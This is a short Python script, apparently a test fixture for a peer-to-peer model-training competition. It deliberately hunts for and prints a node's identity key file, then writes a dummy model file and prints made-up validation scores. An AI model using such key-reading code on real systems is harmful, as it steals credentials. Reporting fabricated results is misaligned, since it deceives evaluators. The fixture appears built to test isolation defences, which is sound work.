"""A hostile script: it looks for the node's identity key everywhere it might be and prints what it finds.

KEY_PATH may name the key file's absolute path (the test passes it, as a script that guessed it
would); the script also tries P2PGOLF_HOME, the platform default, and the parents of its directory.
"""

import os
from pathlib import Path


class Hyperparameters:
    key_path = os.environ.get("KEY_PATH", "")


args = Hyperparameters()
candidates = [args.key_path, os.path.join(os.environ.get("P2PGOLF_HOME", "/nonexistent"), "identity.key"),
              os.path.expanduser("~/.local/share/p2pgolf/identity.key")]
candidates += [str(p / "identity.key") for p in Path.cwd().parents]
stolen = []
for path in candidates:
    try:
        stolen.append(Path(path).read_text()[:80])
    except OSError:
        pass
print(f"stolen_keys:{len(stolen)}")
for text in stolen:
    print("STOLEN", text.replace("\n", " "))
with open("final_model.int8.ptz", "wb") as f:
    f.write(b"\0" * 10)
print("final_int8_zlib_roundtrip_exact val_loss:5.00000000 val_bpb:7.00000000")
